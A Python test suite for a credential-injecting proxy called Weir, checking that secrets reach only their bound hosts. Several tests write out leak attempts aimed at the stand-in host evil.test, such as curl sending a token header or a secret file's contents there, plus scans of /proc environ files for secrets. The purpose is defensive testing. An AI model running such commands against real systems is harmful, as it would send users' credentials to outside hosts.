"""Credentials: programs have placeholders, origins get the secrets, and neither goes anywhere else."""

import base64
import hashlib
import hmac
import http.server
import json
import pathlib
import re
import shutil
import ssl
import sys
import threading
import time
import urllib.parse

import kit
from origin import OriginHandler
from proxies import Socks5Proxy

SECRET = "real/secret+0815==of_the_user"
HOSTS = "DNS:localhost,DNS:api.corp.test,DNS:git.corp.test,DNS:evil.test,IP:127.0.0.1"


class Handler(OriginHandler):
    """/say: no more than whether the credentials were right, so that no secret comes back."""

    def any_say(self):
        self.reply(200, b"you are known" if SECRET in self.shown() else b"who are you?")

    def any_strict(self):
        right = SECRET in self.shown()
        asks = [] if right else [("WWW-Authenticate", 'Basic realm="strict"')]
        self.reply(200 if right else 401, b"in" if right else b"out", fields=asks)

    def shown(self):
        out = []
        for name, value in self.headers.items():
            out.append(value)
            if value.lower().startswith("basic "):
                out.append(base64.b64decode(value[6:]).decode())
        return "\n".join([*out, *self.query.values()])


H2_ORIGIN = """
const http2 = require('http2'), fs = require('fs'), [key, cert] = process.argv.slice(1).map((file) => fs.readFileSync(file));
const server = http2.createSecureServer({ key, cert });
server.on('stream', (stream, fields) => {
  console.log(JSON.stringify({ fields, sensitive: fields[http2.sensitiveHeaders] }));
  stream.respond({ ':status': 200 });
  stream.end('ok');
});
server.listen(0, '127.0.0.1', () => console.log(server.address().port));
"""


class Names(kit.Run):
    """Runs commands whose names all lead to the origin on this machine, as a forwarder would take them there."""

    needs = ("curl",)
    handler = Handler

    def setUp(self):
        super().setUp()
        self.tls = self.enterContext(kit.Origin(kit.identity(HOSTS), handler=self.handler))
        self.socks = self.enterContext(Socks5Proxy(names=("api.corp.test", "git.corp.test", "evil.test")))
        self.config = self.home / "config" / "weir" / "config.toml"
        self.more = []

    @property
    def flags_but_data(self):
        return [*super().flags_but_data, "--upstream-proxy", f"socks5://{self.socks.place}", *self.more]

    def configure(self, text):
        self.config.parent.mkdir(parents=True, exist_ok=True)
        self.config.write_text(text)

    def ask(self, *secrets, words=("-H", "Authorization: Bearer $TOKEN"), url=None, env=None, sandbox=()):
        self.more = [*sandbox, *(word for name in secrets for word in ("--secret", name))]
        url = url or f"https://api.corp.test:{self.tls.port}/say"
        quoted = " ".join('"' + word + '"' for word in words)
        done = self.run_weir("sh", "-c", f'curl -sS {quoted} "{url}"', env={"TOKEN": SECRET, **(env or {})})
        self.assertNotIn(SECRET.encode(), done.stdout + done.stderr)
        self.check(done)
        return done.stdout.decode()

    def nowhere(self, *places):
        """The secret is in no file that Weir wrote."""
        for place in places or (self.data, self.home):
            for path in pathlib.Path(place).rglob("*"):
                if path.is_file() and path.suffix != ".toml" and "given" not in path.name:
                    data = path.read_bytes()
                    for form in (SECRET, base64.b64encode(SECRET.encode()).decode()[:20], urllib.parse.quote(SECRET, safe="")):
                        self.assertNotIn(form.encode(), data, path)


class Spoken(Names):
    def test_a_variable_bound_to_a_host(self):
        self.assertEqual(self.ask("TOKEN@api.corp.test"), "you are known")
        (flow,) = self.flows()
        self.assertIn("credential:TOKEN", flow["marks"])
        self.nowhere()

    def test_a_rule_of_redaction_about_the_same_variable(self):
        self.configure('[[redaction.rules]]\nname = "own"\nsource = { env = "TOKEN" }\n')
        url = f"https://api.corp.test:{self.tls.port}/echo"
        done = self.run_weir("sh", "-c", "true", env={"TOKEN": SECRET})
        self.check(done)
        self.more = ["--secret", "TOKEN@api.corp.test"]
        done = self.run_weir("sh", "-c", f'curl -sS -H "X-Api-Key: $TOKEN" {url}', env={"TOKEN": SECRET})
        self.assertIn(SECRET, self.check(done).decode())  # the origin said what it was told
        self.assertIn("[REDACTED:TOKEN]", kit.body_of(self.flows()[-1], "resp").decode())
        self.nowhere(self.data)

    def test_basic_credentials_and_a_parameter(self):
        self.assertEqual(self.ask("TOKEN@api.corp.test", words=("-u", "me:$TOKEN")), "you are known")
        self.configure('[credentials.q]\nhosts = "api.corp.test"\nquery = "key"\nenv = "TOKEN"\n')
        url = f"https://api.corp.test:{self.tls.port}/say?a=1&key=$TOKEN&b=2"
        self.assertEqual(self.ask("q", words=(), url=url), "you are known")
        self.assertIn(f"key={urllib.parse.quote(SECRET, safe='-._~')}&b=2", self.tls.requests[-1][1])
        self.nowhere()

    def test_over_http2_to_the_origin(self):
        if not shutil.which("node"):
            self.skipTest("not installed: node")
        identity = kit.identity(HOSTS)
        origin = self.spawn(["node", "-e", H2_ORIGIN, identity.key, identity.certificate])
        port = int(origin.stdout.readline())
        self.ask("TOKEN@api.corp.test", url=f"https://api.corp.test:{port}/a", words=("--http2", "-H", "Authorization: Bearer $TOKEN"))
        seen = json.loads(origin.stdout.readline())
        self.assertEqual(seen["fields"]["authorization"], "Bearer " + SECRET)
        self.assertEqual(seen["sensitive"], ["authorization"])  # never indexed
        self.nowhere(self.data)

    def test_every_source(self):
        given = self.home / "given"
        given.write_text(SECRET + "\n")
        envs = self.home / "given.env"
        envs.write_text(f"OTHER=1\nexport CORP='{SECRET}'\n")
        sources = [f'{{ file = "{given}" }}', f'{{ env_file = "{envs}", env_file_key = "CORP" }}', '{ env = "TOKEN" }',
                   f'{{ command = ["cat", "{given}"] }}', f'{{ value = "{SECRET}" }}']
        for source in sources:
            with self.subTest(source):
                self.configure(f'[credentials.corp]\nhosts = ["*.corp.test"]\nenv = ["KEY"]\nsource = {source}\n')
                words = ("-H", "X-Api-Key: $KEY")
                self.assertEqual(self.ask("corp", words=words, env={"TOKEN": SECRET}), "you are known")

    def test_injected_where_nothing_is_said(self):
        self.configure('[credentials.corp]\npreset = "bearer"\nhosts = "api.corp.test"\npath = "/say"\ninject = true\n'
                       'source = { env = "TOKEN" }\n')
        self.assertEqual(self.ask("corp", words=()), "you are known")
        self.assertEqual(self.ask("corp", words=("-H", "Authorization: Bearer own")), "who are you?")
        self.assertEqual(self.ask("corp", words=(), url=f"https://api.corp.test:{self.tls.port}/strict"), "out")
        self.assertEqual(self.ask("corp", words=(), url=f"https://git.corp.test:{self.tls.port}/say"), "who are you?")

    def test_git_over_https(self):
        if not shutil.which("git"):
            self.skipTest("not installed: git")
        url = f"https://x-access-token:$TOKEN@git.corp.test:{self.tls.port}/strict/repo.git"
        self.more = ["--secret", "TOKEN@git.corp.test"]
        done = self.run_weir("sh", "-c", f'git ls-remote "{url}"', env={"TOKEN": SECRET, "GIT_TERMINAL_PROMPT": "0"})
        self.assertNotIn(SECRET.encode(), done.stdout + done.stderr)
        shown = [dict(fields) for method, target, fields in self.tls.requests]
        sent = [base64.b64decode(fields["authorization"][6:]).decode() for fields in map(
            lambda all: {name.lower(): value for name, value in all.items()}, shown) if "authorization" in fields]
        self.assertIn("x-access-token:" + SECRET, sent)
        self.nowhere(self.data)

    def test_the_programs_of_a_run_see_no_secret(self):
        self.more = ["--secret", "TOKEN@api.corp.test"]
        look = ("import glob, os\nfor path in [*glob.glob('/proc/[0-9]*/environ'), *glob.glob('/proc/[0-9]*/cmdline')]:\n"
                "  try: data = open(path, 'rb').read()\n  except OSError: continue\n"
                f"  if {SECRET[:-1]!r}.encode() + {SECRET[-1:]!r}.encode() in data and str(os.getpid()) not in path: "
                "print(path, open(path.rsplit('/', 1)[0] + '/comm').read())\n")
        script = self.home / "look.py"
        script.write_text(look)
        env = {"TOKEN": SECRET, "COPY": f"url?token={SECRET}"}
        done = self.run_weir(sys.executable, str(script), env=env)
        # Who started Weir has it still; what Weir started has not.
        self.assertNotRegex(self.check(done).decode(), "weir|python")
        printed = self.check(self.run_weir("env", env=env)).decode()
        self.assertNotIn(SECRET, printed)
        self.assertRegex(printed, r"COPY=url\?token=weir")

    def test_in_a_sandbox(self):
        self.more = ["--sandbox", "--secret", "TOKEN@api.corp.test"]
        done = self.run_weir("sh", "-c", f'curl -sS -H "Authorization: Bearer $TOKEN" https://api.corp.test:{self.tls.port}/say; '
                             'cat /proc/*/environ | tr "\\0" "\\n" | grep -c "^TOKEN=weir"; '
                             'cat /proc/*/environ | tr "\\0" "\\n" | grep ^TOKEN=real; true', env={"TOKEN": SECRET})
        if done.returncode == 78:
            self.skipTest("no sandbox here: " + done.stderr.decode())
        said = self.check(done).decode()
        self.assertTrue(said.startswith("you are known"), said)
        self.assertNotIn("real", said)


class Refused(Names):
    """Placeholders, and secrets, where they do not belong."""

    def refused(self, code, *secrets, **options):
        said = self.ask(*secrets, **options)
        self.assertIn("code " + code, said)
        self.assertEqual(self.flows()[-1]["error_code"], code)
        return said

    def setUp(self):
        super().setUp()
        self.before = len(self.tls.requests)

    def tearDown(self):
        arrived = self.tls.requests[self.before:]
        self.assertNotRegex(repr(arrived), "weir[A-Za-z0-9]{20}")
        super().tearDown()

    def test_placeholders_that_do_not_belong_there(self):
        api, evil = (f"https://{host}:{self.tls.port}" for host in ("api.corp.test", "evil.test"))
        bound = "TOKEN@api.corp.test"
        auth = ("-H", "Authorization: Bearer $TOKEN")
        self.assertIn("it belongs in a field of the header of requests to api.corp.test",
                      self.refused("placeholder_leak", bound, url=evil + "/say"))
        for words, url in ((("-d", "token=$TOKEN"), api + "/say"), ((), api + "/say?x=$TOKEN"), ((), api + "/$TOKEN"),
                           (("-A", "$TOKEN"), evil + "/say"), (("-u", "me:$TOKEN"), evil + "/say"),
                           (("-F", "file=@-;filename=$TOKEN"), api + "/say"), (("-X", "$TOKEN"), api + "/say"),
                           (auth, f"http://localhost:{self.plain.port}/echo")):
            with self.subTest(words=words, url=url):
                self.refused("placeholder_leak", bound, words=words, url=url)

    def test_a_body_is_cut_before_the_placeholder(self):
        self.more = ["--secret", "TOKEN@api.corp.test"]
        done = self.run_weir("sh", "-c", '(head -c 300000 /dev/zero; printf %s "$TOKEN"; head -c 300000 /dev/zero) | '
                             f'curl -sS --http1.1 -T - https://api.corp.test:{self.tls.port}/echo', env={"TOKEN": SECRET})
        self.assertIn(b"code placeholder_leak", done.stdout)
        self.assertEqual(self.flows()[-1]["error_code"], "placeholder_leak")

    def test_what_was_not_asked_for(self):
        self.configure('[credentials.corp]\nhosts = "api.corp.test"\nenv = "TOKEN"\nplaceholder = "placeholder-of-corp"\n')
        said = self.refused("placeholder_leak", words=("-H", "Authorization: Bearer placeholder-of-corp"))
        self.assertIn("--secret corp", said)

    def test_the_secret_itself(self):
        given = self.home / "given"
        given.write_text(SECRET)
        self.configure(f'[credentials.corp]\nhosts = "api.corp.test"\nsource = {{ file = "{given}" }}\n')
        words = ("-H", "Authorization: Bearer $(cat " + str(given) + ")")
        self.refused("secret_leak", "corp", words=words, url=f"https://evil.test:{self.tls.port}/say")
        self.refused("secret_leak", "corp", words=("--data-binary", f"@{given}"), url=f"https://evil.test:{self.tls.port}/say")
        self.assertEqual(self.ask("corp", words=words), "you are known")
        self.nowhere(self.data)

    def test_another_host_in_the_request(self):
        said = self.refused("misdirected_request", "TOKEN@api.corp.test", words=("--http1.1", "-H", "Host: evil.test"))
        self.assertIn("TOKEN", said)
        self.refused("misdirected_request", "TOKEN@api.corp.test", words=("-H", "Host: api.corp.test"),
                     url=f"https://evil.test:{self.tls.port}/say")

    def test_a_certificate_that_is_accepted_all_the_same(self):
        other = self.enterContext(kit.Origin(kit.identity(HOSTS, issuer="nobody you know"), handler=Handler))
        self.more = []
        flags = ("--insecure", "api.corp.test")
        self.assertIn("code credential_failed", self.ask("TOKEN@api.corp.test", sandbox=flags,
                                                         url=f"https://api.corp.test:{other.port}/say"))
        self.assertEqual(other.requests, [])

    def test_a_host_that_nobody_reads(self):
        self.more = ["--secret", "TOKEN@api.corp.test", "--passthrough", "*.corp.test"]
        done = self.run_weir("true", env={"TOKEN": SECRET})
        self.assertEqual(done.returncode, 2)
        self.assertIn(b"tls.passthrough", done.stderr)

    def test_secrets_that_are_not_there(self):
        for secret, why in (("github", b"GITHUB_TOKEN is not set"), ("nothing", b"there is no such credential"),
                            ("TOKEN@", b"a host is missing"), ("TOKEN@*", b"no host to bind")):
            with self.subTest(secret):
                self.more = ["--secret", secret]
                done = self.run_weir("true")
                self.assertEqual(done.returncode, 2, done)
                self.assertIn(why, done.stderr)
        self.configure('[credentials.corp]\nhosts = "api.corp.test"\nsource = { command = ["false"] }\n')
        self.more = ["--secret", "corp"]
        self.assertIn(b"the command false: it failed with status 1", self.run_weir("true").stderr)


class Tokens(http.server.BaseHTTPRequestHandler):
    """A token endpoint: each refresh token is good once."""

    def log_message(self, *words):
        pass

    def do_POST(self):
        form = dict(urllib.parse.parse_qsl(self.rfile.read(int(self.headers["Content-Length"])).decode()))
        server = self.server
        if server.silent:
            server.asked.append(form)
            server.silent.wait()
            return
        server.asked.append(form)
        right = form.get("refresh_token") == server.good
        server.good = f"refresh-{len(server.asked)}-abcdefgh"
        answer = {"access_token": f"{SECRET}-{len(server.asked)}", "token_type": "Bearer", "expires_in": server.lifetime,
                  "refresh_token": server.good} if right else {"error": "invalid_grant", "error_description": "used up"}
        body = json.dumps(answer).encode()
        self.send_response(200 if right else 400)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class OAuth(Names):
    def setUp(self):
        super().setUp()
        self.tokens = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Tokens)
        self.tokens.asked, self.tokens.good, self.tokens.lifetime = [], "refresh-0-abcdefgh", 3600
        self.tokens.silent = None
        identity = kit.identity()
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(identity.certificate, identity.key)
        self.tokens.socket = context.wrap_socket(self.tokens.socket, server_side=True)
        threading.Thread(target=self.tokens.serve_forever, daemon=True).start()
        self.addCleanup(self.tokens.server_close)
        self.addCleanup(self.tokens.shutdown)
        self.given = self.home / "tokens" / "given"
        self.given.parent.mkdir()
        self.given.write_text(self.tokens.good)
        url = f"https://localhost:{self.tokens.server_port}/token"
        self.configure(f'[upstream]\nno_proxy = ["localhost"]\n[credentials.corp]\npreset = "bearer"\nhosts = "api.corp.test"\n'
                       f'env = "CORP"\nsource = {{ file = "{self.given}" }}\noauth = {{ token_url = "{url}", client_id = "weir" }}\n')

    def test_an_access_token_is_fetched_and_the_new_refresh_token_kept(self):
        words = ("-H", "Authorization: Bearer $CORP")
        url = f"https://api.corp.test:{self.tls.port}/say"
        self.assertEqual(self.ask("corp", words=(*words, url)), "you are known" * 2)
        self.assertEqual(len(self.tokens.asked), 1)
        self.assertEqual(self.tokens.asked[0], {"grant_type": "refresh_token", "refresh_token": "refresh-0-abcdefgh",
                                                "client_id": "weir"})
        self.assertEqual(self.given.read_text().strip(), self.tokens.good)
        self.assertEqual(self.given.stat().st_mode & 0o777, 0o600)
        self.assertEqual(self.ask("corp", words=words), "you are known")
        self.nowhere(self.data)

    def test_a_refusal_is_told(self):
        self.given.write_text("stale-token")
        said = self.ask("corp", words=("-H", "Authorization: Bearer $CORP"))
        self.assertIn("code credential_failed", said)
        self.assertIn("used up", said)
        self.assertNotIn("stale-token", said)
        self.assertEqual(self.tls.requests, [])

    def test_ending_while_the_endpoint_never_answers(self):
        silence = self.tokens.silent = threading.Event()
        self.addCleanup(silence.set)
        self.configure(self.config.read_text() + '[limits]\ndrain_timeout = "100ms"\n')
        weir = self.start("--upstream-proxy", f"socks5://{self.socks.place}", home=self.home)
        listed = kit.run([kit.binary(), "credentials", "list", "--json"], weir.env)
        placeholder = json.loads(self.check(listed))[0]["placeholder"]
        curl = self.spawn(["curl", "-sS", "--proxy", weir.url, "--cacert", weir.ca, "-H", f"Authorization: Bearer {placeholder}",
                           f"https://api.corp.test:{self.tls.port}/say"])
        kit.until(lambda: self.tokens.asked)
        began = time.monotonic()
        weir.stop()
        self.assertLess(time.monotonic() - began, 10)  # the endpoint has 20 s
        curl.communicate()

    def test_a_folder_that_cannot_be_made_for_the_refresh_token(self):
        (self.home / "plain").write_text("a file")
        self.configure(self.config.read_text().replace(str(self.given), str(self.home / "plain" / "given")))
        weir = self.start(home=self.home)
        weir.wait_for_line(f"nothing can be kept in {self.home}/plain until Weir is started anew: .*exists, but is no folder")
        weir.stop()

    def test_check(self):
        done = kit.run([kit.binary(), "credentials", "check", "corp"], self.env)
        self.assertEqual(done.returncode, 1, done)  # nobody vouches for this endpoint
        self.assertIn(b"FAIL", done.stdout)


KEY_ID, KEY = "AKIAREALREALREALREAL", "RealRealRealRealRealRealRealRealRealReal"


def signature(key, handler, body):
    """What AWS Signature Version 4 says of a request with these fields signed, worked out once more."""
    match = re.fullmatch(r"AWS4-HMAC-SHA256 Credential=([^/]+)/(([^/]+)/([^/]+)/([^/]+)/aws4_request), ?SignedHeaders=([^,]+), ?"
                         "Signature=([0-9a-f]{64})", handler.headers["authorization"])
    key_id, scope, day, region, service, names, given = match.groups()
    url = urllib.parse.urlsplit(handler.path)
    path = url.path if service == "s3" else urllib.parse.quote(url.path, safe="/-_.~")
    query = "&".join(sorted("=".join(urllib.parse.quote(part, safe="-_.~") for part in pair)
                            for pair in urllib.parse.parse_qsl(url.query, keep_blank_values=True)))
    fields = "".join(f"{name}:{' '.join(handler.headers[name].split())}\n" for name in names.split(";"))
    digest = handler.headers.get("x-amz-content-sha256") or hashlib.sha256(body).hexdigest()
    request = "\n".join([handler.command, path, query, fields, names, digest])
    text = "\n".join(["AWS4-HMAC-SHA256", handler.headers["x-amz-date"], scope, hashlib.sha256(request.encode()).hexdigest()])
    secret = ("AWS4" + key).encode()
    for word in (day, region, service, "aws4_request"):
        secret = hmac.new(secret, word.encode(), hashlib.sha256).digest()
    return key_id, given == hmac.new(secret, text.encode(), hashlib.sha256).hexdigest()


class AwsHandler(OriginHandler):
    def not_found(self):
        body = b"".join(self.body())
        key_id, right = signature(KEY, self, body)
        said = {"id": key_id == KEY_ID, "signed": right, "token": self.headers.get("x-amz-security-token"), "bytes": len(body)}
        self.reply(200 if right else 403, json.dumps(said).encode())


class Aws(Names):
    """curl signs with the placeholders, as the SDKs do; the origin checks by the real keys."""

    handler = AwsHandler

    def setUp(self):
        super().setUp()
        self.configure('[credentials.aws]\npreset = "aws"\nhosts = "*.corp.test"\n')
        self.keys = {"AWS_ACCESS_KEY_ID": KEY_ID, "AWS_SECRET_ACCESS_KEY": KEY}

    def signed(self, service, *words, path="/model/a%3Ab/invoke?x=2&a=1%202", env=None):
        curl = ("--aws-sigv4", f"aws:amz:us-east-1:{service}", "-u", "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY", *words)
        return json.loads(self.ask("aws", words=curl, url=f"https://api.corp.test:{self.tls.port}{path}", env=env or self.keys))

    def test_requests_are_signed_again(self):
        body = self.home / "body"
        body.write_bytes(bytes(range(256)) * 3000)
        for service, words, size in (("bedrock", (), 0), ("bedrock", ("--data-binary", f"@{body}"), 768000),
                                     ("s3", ("--data-binary", f"@{body}"), 768000), ("s3", (), 0)):
            with self.subTest(service=service, words=words):
                said = self.signed(service, *words, path="/bucket/key?list-type=2&prefix=a%2Fb" if service == "s3" else "/m/x?a=1")
                self.assertEqual(said, {"id": True, "signed": True, "token": None, "bytes": size})
        for flow in self.flows():
            self.assertNotIn(KEY_ID, json.dumps(flow))
            self.assertIn("credential:aws", flow["marks"])

    def test_temporary_keys_bring_their_token(self):
        said = self.signed("bedrock", path="/m/x", env={**self.keys, "AWS_SESSION_TOKEN": "token-of-the-session"})
        self.assertEqual((said["signed"], said["token"]), (True, "token-of-the-session"))

    def test_keys_of_a_credential_process(self):
        keys = self.home / "given.json"
        keys.write_text(json.dumps({"Version": 1, "AccessKeyId": KEY_ID, "SecretAccessKey": KEY, "SessionToken": "tok-0815-tok",
                                    "Expiration": "2999-01-01T00:00:00Z"}))
        self.configure(f'[credentials.aws]\npreset = "aws"\nhosts = "*.corp.test"\nsource = {{ command = ["cat", "{keys}"] }}\n')
        said = self.signed("bedrock", path="/m/x", env={"HOME": str(self.home)})
        self.assertEqual((said["signed"], said["token"]), (True, "tok-0815-tok"))

    def test_a_signature_for_another_host(self):
        said = self.ask("aws", words=("--aws-sigv4", "aws:amz:us-east-1:s3", "-u", "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY"),
                        url=f"https://evil.test:{self.tls.port}/bucket", env=self.keys)
        self.assertIn("code placeholder_leak", said)


class Served(kit.Client):
    """`weir serve` with credentials: for clients that were given the placeholder."""

    def test_a_client_with_the_placeholder(self):
        self.weir.stop()
        home = self.weir.home
        given = home / "given"
        given.write_text(SECRET)
        config = home / "config.toml"
        config.write_text(f'[credentials.corp]\nhosts = "localhost"\nheader = "X-Api-Key"\nsource = {{ file = "{given}" }}\n')
        weir = self.weir = self.start("--config", config, home=home)
        weir.wait_for_line("secret corp: goes to localhost alone")
        listed = kit.run([kit.binary(), "credentials", "list", "--json", "--config", config], weir.env)
        placeholder = json.loads(self.check(listed))[0]["placeholder"]
        curl = ["curl", "-sS", "--proxy", weir.url, "--cacert", weir.ca, "-H", f"X-Api-Key: {placeholder}"]
        url = f"https://localhost:{self.tls.port}/echo"
        seen = json.loads(self.check(kit.run([*curl, url], weir.env)))
        self.assertIn(["x-api-key", SECRET], [[name.lower(), value] for name, value in seen["fields"]])
        # A new secret is there within seconds, without a restart.
        given.write_text("another-secret-4711")

        def renewed():
            return b"another-secret-4711" in kit.run([*curl, url], weir.env).stdout
        kit.until(renewed)
        self.weir.stop()
        self.assertRegex(self.weir.said, r"secret corp: put into [0-9]+ requests")
        for path in pathlib.Path(weir.data).rglob("*"):
            if path.is_file():
                self.assertNotIn(SECRET.encode(), path.read_bytes(), path)
                self.assertNotIn(b"another-secret-4711", path.read_bytes(), path)


if __name__ == "__main__":
    kit.main()
